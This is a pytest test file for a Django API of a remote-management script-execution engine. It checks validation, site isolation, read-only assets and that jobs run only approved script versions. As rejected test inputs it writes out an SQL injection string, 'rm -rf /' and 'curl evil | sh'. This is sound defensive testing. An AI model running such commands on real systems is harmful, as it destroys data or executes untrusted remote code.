"""Bad input never gives a 500; site isolation; Law 2 (actual state only from agents); Law 3 (no free text)."""

import hashlib
import json
import uuid

import pytest
from django.test import Client
from rest_framework.test import APIClient

from rmm.engine.models import Instruction
from rmm.history.models import HistoryEvent
from rmm.inventory.models import Asset
from scripting import services as scripting
from scripting.models import Script, ScriptJob
from tests.helpers import approved_authority, approved_script, make_agent, post_json

JOBS = "/api/v1/script-jobs/"
SCRIPTS = "/api/v1/scripts/"


@pytest.fixture
def world(caller, site):
    psa = caller("psa", "psa")
    tech = caller("tech", "technician")
    boss = caller("boss", "approver")
    agent, auth = make_agent(site, "web-01")
    task = approved_authority(site, psa.user)
    script = approved_script(tech.user, boss.user)
    return psa, tech, boss, agent, auth, task, script


def job_body(script, agent, task, /, **over):
    body = {"script": str(script.pk), "asset": str(agent.asset_id), "psa_task_id": str(task.pk)}
    body.update(over)
    return {k: v for k, v in body.items() if v is not ...}


def nothing_created():
    assert ScriptJob.objects.count() == 0
    assert Instruction.objects.count() == 0


# --- job creation: each bad field is named ------------------------------------------------


def test_unknown_script_id(world):
    psa, _t, _b, agent, _a, task, script = world
    r = psa.post(JOBS, job_body(script, agent, task, script=str(uuid.uuid4())), format="json")
    assert r.status_code == 400
    assert r.json() == {"script": ["No such script."]}
    nothing_created()


def test_unknown_asset(world):
    psa, _t, _b, agent, _a, task, script = world
    r = psa.post(JOBS, job_body(script, agent, task, asset=str(uuid.uuid4())), format="json")
    assert r.status_code == 400
    assert r.json() == {"asset": ["No such asset."]}
    nothing_created()


@pytest.mark.parametrize("field", ["script", "asset", "psa_task_id"])
@pytest.mark.parametrize("bad", ["not-a-uuid", "1234", 42, "'; DROP TABLE x; --", ["a"], {"id": 1}])
def test_malformed_uuids(world, field, bad):
    psa, _t, _b, agent, _a, task, script = world
    r = psa.post(JOBS, job_body(script, agent, task, **{field: bad}), format="json")
    assert r.status_code == 400
    assert list(r.json()) == [field]
    nothing_created()


@pytest.mark.parametrize("decision", ["pending", "rejected"])
def test_a_script_version_that_is_not_approved(world, decision):
    psa, tech, boss, agent, _a, task, _script = world
    script = scripting.create_script(tech.user, name="draft", language="sh", content="echo draft\n")
    if decision == "rejected":
        scripting.reject_script(script, boss.user, "no")
    r = psa.post(JOBS, job_body(script, agent, task), format="json")
    assert r.status_code == 400
    assert r.json() == {"script": [f"This script version is {decision}, not approved."]}
    nothing_created()


def test_missing_fields(world):
    psa = world[0]
    r = psa.post(JOBS, {}, format="json")
    assert r.status_code == 400
    assert r.json() == {"script": ["This field is required."], "asset": ["This field is required."]}
    nothing_created()


def test_a_job_on_an_asset_with_no_agent_is_refused_and_leaves_nothing(world, site):
    psa, _t, _b, _agent, _a, task, script = world
    bare = Asset.objects.create(site=site, hostname="no-agent")
    r = psa.post(JOBS, {"script": str(script.pk), "asset": str(bare.pk), "psa_task_id": str(task.pk)}, format="json")
    assert r.status_code == 400
    assert r.json() == {"asset": ["The asset has no enrolled agent."]}
    nothing_created()


@pytest.mark.parametrize(
    "body",
    [b"not json", b"{", b"\xff\xfe", b"[1, 2]", b'"a string"', b"null", b"42"],
)
def test_non_object_bodies_on_the_api_are_400(world, body):
    psa = world[0]
    for url in (JOBS, SCRIPTS):
        r = psa.client.generic("POST", url, body, content_type="application/json")
        assert r.status_code == 400, (url, body, r.content)
        assert isinstance(r.json(), dict)
    nothing_created()
    assert Script.objects.count() == 1


# --- scripts: validation and immutability ---------------------------------------------------


def new_script(**over):
    return {"name": "fix", "language": "sh", "content": "echo fix\n", **over}


@pytest.mark.parametrize(
    ("over", "field"),
    [
        ({"language": "cobol"}, "language"),
        ({"language": ""}, "language"),
        ({"content": ""}, "content"),
        ({"content": "   \n"}, "content"),
        ({"content": "x" * (256 * 1024 + 1)}, "content"),
        ({"name": ""}, "name"),
        ({"name": "   "}, "name"),
        ({"timeout_seconds": 0}, "timeout_seconds"),
        ({"timeout_seconds": 86401}, "timeout_seconds"),
        ({"timeout_seconds": "soon"}, "timeout_seconds"),
    ],
)
def test_bad_script_fields_are_named(world, over, field):
    tech = world[1]
    r = tech.post(SCRIPTS, new_script(**over), format="json")
    assert r.status_code == 400, r.content
    assert list(r.json()) == [field]
    assert not Script.objects.filter(name__in=["fix", ""]).exists()


@pytest.mark.parametrize("missing", ["name", "language", "content"])
def test_missing_script_fields_are_named(world, missing):
    tech = world[1]
    body = new_script()
    del body[missing]
    r = tech.post(SCRIPTS, body, format="json")
    assert r.status_code == 400
    assert r.json() == {missing: ["This field is required."]}


def test_scripts_cannot_be_edited_or_deleted(world):
    tech, script = world[1], world[6]
    url = f"{SCRIPTS}{script.pk}/"
    for method in ("put", "patch", "delete"):
        r = getattr(tech, method)(url, {"content": "rm -rf /\n"}, format="json")
        assert r.status_code == 405, method
    script.refresh_from_db()
    assert script.content == "echo hello\n"
    assert script.sha256 == hashlib.sha256(b"echo hello\n").hexdigest()


def test_new_content_under_the_same_name_is_a_new_version(world):
    tech, script = world[1], world[6]
    v1_before = tech.get(f"{SCRIPTS}{script.pk}/").json()
    r = tech.post(SCRIPTS, {"name": "hello", "language": "sh", "content": "echo bye\n"}, format="json")
    assert r.status_code == 201
    v2 = r.json()
    assert v2["version"] == 2
    assert v2["id"] != v1_before["id"]
    assert v2["sha256"] == hashlib.sha256(b"echo bye\n").hexdigest() != v1_before["sha256"]
    assert v2["approval_status"] == "pending"  # approval of v1 does not carry over
    v1_after = tech.get(f"{SCRIPTS}{script.pk}/").json()
    assert v1_after == v1_before
    assert v1_after["content"] == "echo hello\n" and v1_after["approval_status"] == "approved"
    assert [s["version"] for s in tech.get(SCRIPTS, {"name": "hello"}).json()["results"]] == [2, 1]


def test_read_only_script_fields_cannot_be_forged(world):
    tech = world[1]
    r = tech.post(
        SCRIPTS,
        new_script(approval_status="approved", version=7, sha256="0" * 64, author="boss", decided_by="boss"),
        format="json",
    )
    assert r.status_code == 201
    body = r.json()
    assert body["approval_status"] == "pending"
    assert body["version"] == 1
    assert body["sha256"] == hashlib.sha256(b"echo fix\n").hexdigest()
    assert body["author"] == "tech"
    assert body["decided_by"] is None


def test_unknown_or_malformed_ids_on_detail_routes_are_404(world):
    psa = world[0]
    for base in (SCRIPTS, JOBS, "/api/v1/assets/", "/api/v1/evidence/", "/api/v1/sites/"):
        for pk in (uuid.uuid4(), "not-a-uuid", "1"):
            r = psa.get(f"{base}{pk}/")
            assert r.status_code == 404, (base, pk, r.status_code)
    for pk in (uuid.uuid4(), "not-a-uuid"):
        assert psa.post(f"{JOBS}{pk}/approve/").status_code == 404
        assert psa.post(f"{SCRIPTS}{pk}/reject/", {"reason": "x"}, format="json").status_code == 404
    assert psa.get(f"/api/v1/psa/cases/{uuid.uuid4()}/").status_code == 404
    assert psa.get("/api/v1/psa/cases/not-a-uuid/").status_code == 404


def test_malformed_filters_are_400(world):
    psa = world[0]
    r = psa.get(JOBS, {"asset": "not-a-uuid"})
    assert r.status_code == 400
    assert list(r.json()) == ["asset"]
    r = psa.get(JOBS, {"status": "exploded"})
    assert r.status_code == 400
    assert list(r.json()) == ["status"]


# --- authentication and site isolation ------------------------------------------------------


@pytest.mark.parametrize("header", [None, "Bearer nope", "Bearer rmm_abc_def", "Token x", "Basic Zm9vOmJhcg=="])
def test_unauthenticated_calls_get_401(world, header):
    client = APIClient()
    if header:
        client.credentials(HTTP_AUTHORIZATION=header)
    for url in (JOBS, SCRIPTS, "/api/v1/assets/", "/api/v1/evidence/", "/api/v1/sites/", f"{JOBS}{uuid.uuid4()}/"):
        r = client.get(url)
        assert r.status_code == 401, (url, header, r.status_code)
    r = client.post(JOBS, job_body(world[6], world[3], world[5]), format="json")
    assert r.status_code == 401
    r = client.put(
        f"/api/v1/psa/cases/{uuid.uuid4()}/", {"title": "t", "status": "approved", "site": "alpha"}, format="json"
    )
    assert r.status_code == 401
    nothing_created()


def test_another_sites_assets_and_jobs_do_not_exist_for_a_scoped_caller(world, caller, site, other_site):
    psa, tech, boss, agent, _auth, task, script = world
    far_agent, _ = make_agent(other_site, "far-01")
    far_task = approved_authority(other_site, psa.user)
    near_job = psa.post(JOBS, job_body(script, agent, task), format="json").json()
    far_job = psa.post(JOBS, job_body(script, far_agent, far_task), format="json").json()
    scoped = caller("local-tech", "technician", sites=[site])

    assets = scoped.get("/api/v1/assets/").json()["results"]
    assert [a["hostname"] for a in assets] == ["web-01"]
    assert scoped.get(f"/api/v1/assets/{far_agent.asset_id}/").status_code == 404
    assert scoped.get("/api/v1/assets/", {"hostname": "far-01"}).json()["count"] == 0
    assert scoped.get("/api/v1/assets/", {"site": "beta"}).json()["count"] == 0

    jobs = scoped.get(JOBS).json()["results"]
    assert [j["id"] for j in jobs] == [near_job["id"]]
    assert scoped.get(f"{JOBS}{far_job['id']}/").status_code == 404
    assert scoped.get(JOBS, {"asset": str(far_agent.asset_id)}).json()["count"] == 0
    assert [s["name"] for s in scoped.get("/api/v1/sites/").json()["results"]] == ["alpha"]

    # Nor can they act on it or start work there.
    assert scoped.post(f"{JOBS}{far_job['id']}/approve/").status_code == 404
    r = scoped.post(JOBS, job_body(script, far_agent, far_task), format="json")
    assert r.status_code == 400
    assert r.json() == {"asset": ["No such asset."]}
    assert ScriptJob.objects.count() == 2

    # The all-sites caller still sees both.
    assert psa.get(JOBS).json()["count"] == 2


# --- Law 2: actual state is written only by agent reports ---------------------------------


def test_assets_are_read_only_over_the_api(world, caller):
    tech, agent = world[1], world[3]
    admin = caller("root", "admin")
    url = f"/api/v1/assets/{agent.asset_id}/"
    before = tech.get(url).json()
    for who in (tech, admin):
        for method in ("put", "patch", "delete"):
            r = getattr(who, method)(url, {"hostname": "pwned", "facts": {"os": "TempleOS"}}, format="json")
            assert r.status_code == 405, (method, r.status_code)
        r = who.post("/api/v1/assets/", {"hostname": "ghost"}, format="json")
        assert r.status_code == 405
    assert tech.get(url).json() == before
    assert Asset.objects.count() == 1


def test_a_heartbeat_with_new_facts_is_what_changes_the_asset(world):
    tech, agent, auth = world[1], world[3], world[4]
    url = f"/api/v1/assets/{agent.asset_id}/"
    assert tech.get(url).json()["hostname"] == "web-01"
    facts = {"hostname": "web-01.prod", "os": "Debian 13", "architecture": "aarch64", "memory_mb": 4096}
    r = post_json(Client(), "/api/v1/agent/heartbeat/", {"facts": facts, "capacity": 0}, HTTP_AUTHORIZATION=auth)
    assert r.status_code == 200
    asset = tech.get(url).json()
    assert asset["hostname"] == "web-01.prod"
    assert asset["os"] == "Debian 13"
    assert asset["architecture"] == "aarch64"
    assert asset["facts"]["memory_mb"] == 4096
    assert asset["agent"]["last_seen_at"] is not None
    event = HistoryEvent.objects.filter(action="asset.facts_reported").last()
    assert event.actor == f"agent:{agent.pk}"
    assert event.payload["changed"] == ["architecture", "hostname", "os"]


# --- the agent endpoints ----------------------------------------------------------------------

AGENT_PATHS = ("/api/v1/agent/enroll/", "/api/v1/agent/heartbeat/", "/api/v1/agent/results/", "/api/v1/agent/output/")


@pytest.mark.parametrize("body", [b"not json", b"{", b"\xff\xfe\x00", b"[]", b"[1]", b'"x"', b"7", b"null", b"true"])
def test_agent_endpoints_refuse_non_object_bodies(world, body):
    auth = world[4]
    for path in AGENT_PATHS:
        r = Client().generic("POST", path, body, content_type="application/json", HTTP_AUTHORIZATION=auth)
        assert r.status_code == 400, (path, body, r.status_code)
        assert r.json() == {"detail": "The body must be a JSON object."}
    assert Instruction.objects.filter(status="running").count() == 0


def test_agent_endpoints_only_take_post(world):
    auth = world[4]
    for path in AGENT_PATHS:
        for method in ("get", "put", "delete"):
            r = getattr(Client(), method)(path, HTTP_AUTHORIZATION=auth)
            assert r.status_code == 405, (path, method)


def test_a_result_with_missing_or_wrong_fields_is_named(world):
    auth = world[4]
    r = post_json(Client(), "/api/v1/agent/results/", {}, HTTP_AUTHORIZATION=auth)
    assert r.status_code == 400
    assert set(r.json()) == {
        "instruction_id",
        "outcome",
        "exit_code",
        "stdout",
        "stderr",
        "stdout_truncated",
        "stderr_truncated",
    }
    body = {
        "instruction_id": str(uuid.uuid4()),
        "outcome": "exploded",
        "exit_code": "zero",
        "stdout": 1,
        "stderr": [],
        "stdout_truncated": False,
        "stderr_truncated": False,
    }
    r = post_json(Client(), "/api/v1/agent/results/", body, HTTP_AUTHORIZATION=auth)
    assert r.status_code == 400
    assert set(r.json()) == {"outcome", "exit_code", "stdout", "stderr"}


def test_enrollment_with_bad_input(world):
    r = post_json(Client(), "/api/v1/agent/enroll/", {"token": "enr_nope", "facts": {"hostname": "x"}})
    assert r.status_code == 403
    r = post_json(Client(), "/api/v1/agent/enroll/", {"token": "enr_nope", "facts": ["x"]})
    assert r.status_code == 400
    assert r.json() == {"facts": ["Facts must be a JSON object."]}
    r = post_json(Client(), "/api/v1/agent/enroll/", {"token": "enr_nope", "facts": {}})
    assert r.status_code == 400
    assert r.json() == {"facts": ["Facts must include the hostname."]}


def test_heartbeat_tolerates_odd_optional_fields(world):
    auth = world[4]
    body = {"capacity": "lots", "running": "everything", "facts": ["not", "a", "dict"], "facts_hash": 12}
    r = post_json(Client(), "/api/v1/agent/heartbeat/", body, HTTP_AUTHORIZATION=auth)
    assert r.status_code == 200
    assert r.json()["instructions"] == [] and r.json()["abort"] == []


# --- the API's own documentation --------------------------------------------------------------


def test_the_openapi_document_and_docs_page(world):
    psa = world[0]
    r = psa.get("/api/schema/", {"format": "json"})
    assert r.status_code == 200
    doc = json.loads(r.content)
    assert doc["openapi"].startswith("3.")
    assert doc["info"]["title"] == "RMM execution engine API"
    for path in ("/api/v1/script-jobs/", "/api/v1/scripts/", "/api/v1/psa/cases/{case_id}/", "/api/v1/assets/{id}/"):
        assert path in doc["paths"], path
    assert set(doc["paths"]["/api/v1/assets/{id}/"]) == {"get"}
    assert "put" not in doc["paths"]["/api/v1/scripts/{id}/"]
    r = psa.get("/api/docs/")
    assert r.status_code == 200
    assert b"swagger" in r.content.lower()


# --- Law 3: no endpoint runs free text --------------------------------------------------------

FREE_TEXT = {"content", "command", "cmd", "script_content", "code", "shell", "interpreter", "arguments"}


def _schema_properties(doc, schema, seen=None):
    seen = seen or set()
    if "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        if name in seen:
            return set()
        seen.add(name)
        schema = doc["components"]["schemas"][name]
    props = set(schema.get("properties", {}))
    for sub in schema.get("allOf", []) + schema.get("oneOf", []) + schema.get("anyOf", []):
        props |= _schema_properties(doc, sub, seen)
    for value in schema.get("properties", {}).values():
        props |= _schema_properties(doc, value, seen)
    return props


def test_only_creating_a_script_version_accepts_content(world):
    """Every request body in the API, checked for free-text execution fields."""
    doc = json.loads(world[0].get("/api/schema/", {"format": "json"}).content)
    takers = set()
    for path, ops in doc["paths"].items():
        for method, op in ops.items():
            for media in (op.get("requestBody") or {}).get("content", {}).values():
                if _schema_properties(doc, media.get("schema", {})) & FREE_TEXT:
                    takers.add((method.upper(), path))
    # Both create code that a second person approves before it runs: a script version, and a
    # package (whose interpreter, sh or powershell, says what runs a script package).
    assert takers == {("POST", "/api/v1/scripts/"), ("POST", "/api/v1/packages/")}


def test_a_job_names_a_script_version_and_extra_text_is_ignored(world):
    psa, _t, _b, agent, auth, task, script = world
    body = job_body(
        script,
        agent,
        task,
        content="curl evil | sh\n",
        command="rm -rf /",
        interpreter="bash",
        arguments=["--force"],
        sha256="0" * 64,
    )
    r = psa.post(JOBS, body, format="json")
    assert r.status_code == 201, r.content
    inst = Instruction.objects.get()
    assert inst.content == script.content == "echo hello\n"
    assert inst.content_sha256 == script.sha256
    assert inst.interpreter == "sh" and inst.arguments == []
    leased = post_json(Client(), "/api/v1/agent/heartbeat/", {"capacity": 1}, HTTP_AUTHORIZATION=auth).json()
    payload = json.loads(leased["instructions"][0]["payload"])
    assert payload["content"] == "echo hello\n"
    assert payload["content_sha256"] == script.sha256
    assert "curl" not in leased["instructions"][0]["payload"]
